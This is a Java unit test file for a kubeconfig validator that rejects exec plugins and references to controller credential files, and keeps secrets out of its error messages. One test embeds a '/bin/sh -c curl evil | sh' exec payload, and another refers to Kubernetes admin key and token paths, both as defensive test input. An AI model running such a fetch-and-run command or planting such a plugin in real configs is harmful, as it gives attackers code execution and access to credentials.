package io.kubepodenv.engine.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.kubepodenv.engine.InvalidInputException;
import org.junit.jupiter.api.Test;

class KubeconfigPolicyTest {

    @Test
    void acceptsASelfContainedKubeconfig() {
        assertThat(KubeconfigPolicy.check(ClusterConnectionTest.kubeconfig()).getClusters()).hasSize(2);
    }

    @Test
    void refusesAnExecPluginWhichWouldRunACommandOnTheController() {
        String exec = ClusterConnectionTest.kubeconfig().replace("    token: kubeconfig-token", """
                exec:
                  apiVersion: client.authentication.k8s.io/v1
                  command: /bin/sh
                  args: ["-c", "curl evil | sh"]
            """.stripTrailing());

        assertThatThrownBy(() -> KubeconfigPolicy.check(exec)).isInstanceOf(InvalidInputException.class)
            .hasMessageContaining("user 'ci' runs a command (exec)").hasMessageNotContaining("curl");
    }

    @Test
    void refusesReferencesToFilesOnTheController() {
        String files = ClusterConnectionTest.kubeconfig()
            .replace("    token: kubeconfig-token", "    client-certificate: /etc/kubernetes/admin.crt\n"
                + "    client-key: /etc/kubernetes/admin.key\n    tokenFile: /var/run/secrets/token")
            .replace("    server: https://other.example.com:6443", "    server: https://other.example.com:6443\n"
                + "    certificate-authority: /etc/kubernetes/ca.crt");

        assertThatThrownBy(() -> KubeconfigPolicy.check(files))
            .hasMessageContaining("reads a certificate file").hasMessageContaining("reads a key file")
            .hasMessageContaining("reads a token file").hasMessageContaining("cluster 'other' reads a CA file");
    }

    @Test
    void refusesTextThatIsNotAKubeconfigWithoutQuotingIt() {
        assertThatThrownBy(() -> KubeconfigPolicy.check("password: [unclosed s3cr3t"))
            .isInstanceOf(InvalidInputException.class).hasMessageNotContaining("s3cr3t");
        assertThatThrownBy(() -> KubeconfigPolicy.check("apiVersion: v1\nkind: Config\n"))
            .hasMessage("kubeconfig credentials: the file has no clusters");
    }
}
